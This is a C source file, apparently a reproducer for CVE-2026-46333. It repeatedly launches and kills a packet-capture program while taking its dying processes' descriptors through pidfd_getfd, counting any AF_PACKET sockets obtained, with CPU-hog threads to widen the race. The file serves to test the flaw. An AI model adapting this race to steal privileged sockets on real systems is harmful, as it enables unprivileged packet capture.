/*
 * Starts a capture many times, kills it, or one of its processes, at a random moment, and all the
 * while, as the same ordinary uid, asks the kernel for their descriptors: CVE-2026-46333.
 *
 *   thief [-s] STARTS SECONDS LIFE_MS PROGRAM [ARGUMENT...]
 *
 * With -s the last moments are stretched: the captures have the last processor, which others take from them, a
 * moment at a time, once they are killed. Ends after STARTS or SECONDS. Prints how many were started, how many of these were killed after
 * their first output, how many lost a packet socket, of how many a socket was seen in /proc, and how
 * long the slowest took to die.
 */
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Helper, its child, writer, resolver: pids are given one after the other, and nobody else forks here. */
#define PROCESSES 12
#define FIRST_FD 3
#define LAST_FD 11
#define START_MS 20000
#define READY_LIFE_MS 50
#define OTHERS_LIVE_MS 200
#define MOURNING_MS 2000
#define HOGS 3
#define STARVING_MS 250
#define HOG_BUSY_MS 2
#define HOG_PAUSE_NS 50000

struct prey {
	pid_t first;
	int pidfds[PROCESSES];
	int output;
	int sweeps;
	long dying_ms;
	bool lost, seen;
};

static pid_t hogs[HOGS]; /* 0: nobody is to starve */

static long now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000L + now.tv_nsec / 1000000;
}

/* Each pause lets those that starve go on for as long, and its end may stop them anywhere in the kernel. */
static void hog(void)
{
	const struct timespec pause = { 0, HOG_PAUSE_NS };

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	raise(SIGSTOP);
	for (;;) {
		long until = now_ms() + HOG_BUSY_MS;

		while (now_ms() < until)
			continue;
		nanosleep(&pause, NULL);
	}
}

static void use_processor(int from, int to)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	for (int cpu = from; cpu <= to; cpu++)
		CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof set, &set) != 0)
		exit(1);
}

static void prepare_hogs(void)
{
	int last = (int)sysconf(_SC_NPROCESSORS_ONLN) - 1;

	for (int i = 0; i < HOGS; i++) {
		hogs[i] = fork();
		if (hogs[i] == 0) {
			use_processor(last, last);
			hog();
		}
		waitpid(hogs[i], NULL, WUNTRACED);
	}
	use_processor(0, last > 0 ? last - 1 : 0);
}

static void signal_hogs(int number)
{
	for (int i = 0; i < HOGS && hogs[i] != 0; i++)
		kill(hogs[i], number);
}

/* What is executed from here has the last processor, as long as nobody else wants it. */
static void make_starvable(void)
{
	int last = (int)sysconf(_SC_NPROCESSORS_ONLN) - 1;

	use_processor(last, last);
	if (sched_setscheduler(0, SCHED_IDLE, &(struct sched_param){ 0 }) != 0)
		exit(1);
}

static bool is_ready(int fd)
{
	struct pollfd wait = { fd, POLLIN, 0 };

	return poll(&wait, 1, 0) > 0;
}

static void find_processes(struct prey *prey)
{
	for (int i = 0; i < PROCESSES; i++)
		if (prey->pidfds[i] < 0)
			prey->pidfds[i] = (int)syscall(SYS_pidfd_open, prey->first + i, 0);
}

static bool is_packet_socket(int fd)
{
	int domain = 0;
	socklen_t length = sizeof domain;

	return getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &length) == 0 && domain == AF_PACKET;
}

static void look(struct prey *prey, int process)
{
	char path[64], target[64] = "";

	snprintf(path, sizeof path, "/proc/%d/fd/%d", prey->first + process,
		 FIRST_FD + prey->sweeps % (LAST_FD - FIRST_FD + 1));
	if (readlink(path, target, sizeof target) > 0 && strncmp(target, "socket:", 7) == 0)
		prey->seen = true;
}

static void sweep(struct prey *prey)
{
	for (int i = 0; i < PROCESSES; i++) {
		if (prey->pidfds[i] < 0)
			continue;
		for (int number = FIRST_FD; number <= LAST_FD; number++) {
			int fd = (int)syscall(SYS_pidfd_getfd, prey->pidfds[i], number, 0);

			if (fd < 0)
				continue;
			if (is_packet_socket(fd))
				prey->lost = true;
			close(fd);
		}
		look(prey, i);
	}
	prey->sweeps++;
}

static void start(struct prey *prey, char **argv)
{
	int output[2];

	if (pipe2(output, O_CLOEXEC) != 0)
		exit(1);
	prey->output = output[0];
	prey->first = fork();
	if (prey->first == 0) {
		int null = open("/dev/null", O_RDWR);

		if (hogs[0] != 0)
			make_starvable();
		dup2(output[1], 1);
		dup2(null, 2);
		execv(argv[0], argv);
		_exit(127);
	}
	close(output[1]);
	memset(prey->pidfds, -1, sizeof prey->pidfds);
}

static void end(struct prey *prey, bool all)
{
	int chosen = (int)random() % PROCESSES;

	find_processes(prey);
	while (prey->pidfds[chosen] < 0) /* the first one is always there: not yet waited for */
		chosen = (chosen + 1) % PROCESSES;
	for (int i = 0; i < PROCESSES; i++)
		if (prey->pidfds[i] >= 0 && (all || i == chosen))
			syscall(SYS_pidfd_send_signal, prey->pidfds[i], SIGKILL, NULL, 0);
}

static bool lives(const struct prey *prey)
{
	for (int i = 0; i < PROCESSES; i++)
		if (prey->pidfds[i] >= 0 && !is_ready(prey->pidfds[i]))
			return true;
	return false;
}

/* To the last moment: a process that has no memory any more still has its descriptors. */
static void mourn(struct prey *prey, long at_most_ms)
{
	long until = now_ms() + at_most_ms;

	while (lives(prey) && now_ms() < until)
		sweep(prey);
}

static void forget(struct prey *prey)
{
	for (int i = 0; i < PROCESSES; i++)
		if (prey->pidfds[i] >= 0)
			close(prey->pidfds[i]);
	close(prey->output);
	waitpid(prey->first, NULL, 0);
}

/*
 * Either from before its first instruction and to a moment at which it may not be under way yet, or
 * once it is. Returns whether it was when it was killed.
 */
static bool hunt(struct prey *prey, char **argv, long life_ms, bool once_ready, bool all)
{
	struct pollfd output;
	bool ready;
	long until, killed;

	start(prey, argv);
	output = (struct pollfd){ prey->output, POLLIN, 0 };
	if (once_ready)
		poll(&output, 1, START_MS);
	until = now_ms() + random() % (once_ready ? READY_LIFE_MS : life_ms);
	do {
		find_processes(prey);
		sweep(prey);
	} while (now_ms() < until);
	ready = is_ready(prey->output);
	signal_hogs(SIGCONT);
	killed = now_ms();
	end(prey, all);
	mourn(prey, hogs[0] != 0 ? STARVING_MS : 0);
	prey->dying_ms = now_ms() - killed;
	signal_hogs(SIGSTOP);
	mourn(prey, OTHERS_LIVE_MS); /* one that was killed alone should take the others with it */
	end(prey, true);
	mourn(prey, MOURNING_MS);
	forget(prey);
	return ready;
}

int main(int argc, char **argv)
{
	int starts = 0, ready = 0, lost = 0, seen = 0;
	long end_ms, longest_ms = 0;

	if (argc > 1 && strcmp(argv[1], "-s") == 0) {
		prepare_hogs();
		argv++;
		argc--;
	}
	if (argc < 5)
		return 2;
	end_ms = now_ms() + atol(argv[2]) * 1000;
	for (; starts < atoi(argv[1]) && now_ms() < end_ms; starts++) {
		struct prey prey = { 0 };

		ready += hunt(&prey, argv + 4, atol(argv[3]), starts % 2 == 1, starts % 4 > 1);
		lost += prey.lost;
		seen += prey.seen;
		longest_ms = prey.dying_ms > longest_ms ? prey.dying_ms : longest_ms;
	}
	signal_hogs(SIGKILL);
	printf("starts=%d ready=%d lost=%d seen=%d dying_ms=%ld\n", starts, ready, lost, seen, longest_ms);
	return 0;
}
